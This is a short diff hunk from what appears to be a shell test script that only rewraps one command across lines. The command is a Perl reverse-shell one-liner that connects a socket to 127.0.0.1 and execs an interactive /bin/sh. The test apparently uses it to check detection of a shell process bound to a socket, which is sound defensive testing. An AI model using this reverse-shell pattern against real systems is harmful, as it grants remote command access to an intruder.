@@ -12,6 +12,8 @@ peer 4465
 #: act
 . lib/peers.sh
 act
-perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4465, inet_aton("127.0.0.1"))) or die;
-              open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-i");' < /dev/null > /dev/null 2>&1 & fact shell $!
+perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6);
+connect(S, sockaddr_in(4465, inet_aton("127.0.0.1"))) or die;
+open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-i");' \
+  < /dev/null > /dev/null 2>&1 & fact shell $!
 await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'
